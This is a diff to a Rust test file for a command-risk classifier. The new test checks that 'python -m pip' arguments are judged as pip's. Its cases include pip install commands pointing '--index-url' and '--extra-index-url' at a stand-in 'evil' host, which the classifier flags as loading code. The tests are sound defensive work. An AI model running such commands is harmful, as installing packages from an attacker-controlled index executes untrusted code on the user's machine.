@@ -18,6 +18,8 @@ fn everyday_interpreter_use_trips_nothing() {
         &["python3.11", "-I", "-S", "script.py"],
         &["python", "--check-hash-based-pycs", "never", "script.py"],
         &["python3", "-m", "venv", ".venv"],
+        &["python3", "-m", "pip", "install", "requests"],
+        &["python3", "-m", "pip", "list"],
         &["python3", "--version"],
         &["python3", "-OO", "-bb", "-vV"],
         &["node", "--test"],
@@ -504,4 +506,46 @@ fn ruby_long_options_are_exact() {
 fn ruby_words_after_the_script_are_the_script_s() {
     assert_eq!(ids(&["ruby", "script.rb", "-e", "x", "-rsocket"]), NONE);
     assert_eq!(ids(&["ruby", "--", "script.rb", "-e", "x"]), NONE);
+}
+
+/// `python -m pip` is pip: its arguments are judged by pip's spec, so the
+/// index a download comes from, a target outside the tree or an option
+/// pip's spec does not know are asked as they are for `pip` itself.
+#[test]
+fn python_m_pip_is_judged_as_pip() {
+    for (argv, id) in [
+        (
+            &[
+                "python3",
+                "-m",
+                "pip",
+                "install",
+                "--index-url",
+                "http://evil/",
+                "x",
+            ][..],
+            "pip.loads-code",
+        ),
+        (
+            &[
+                "python",
+                "-m",
+                "pip3",
+                "install",
+                "--extra-index-url=http://e/",
+                "x",
+            ],
+            "pip.loads-code",
+        ),
+        (
+            &["python3", "-m", "pip", "install", "--no-such-option", "x"],
+            "pip.unknown-option",
+        ),
+        (
+            &["python3", "-m", "pip", "nosuchcommand"],
+            "pip.unknown-subcommand",
+        ),
+    ] {
+        assert!(ids(argv).contains(&id), "{argv:?}: {:?}", ids(argv));
+    }
 }
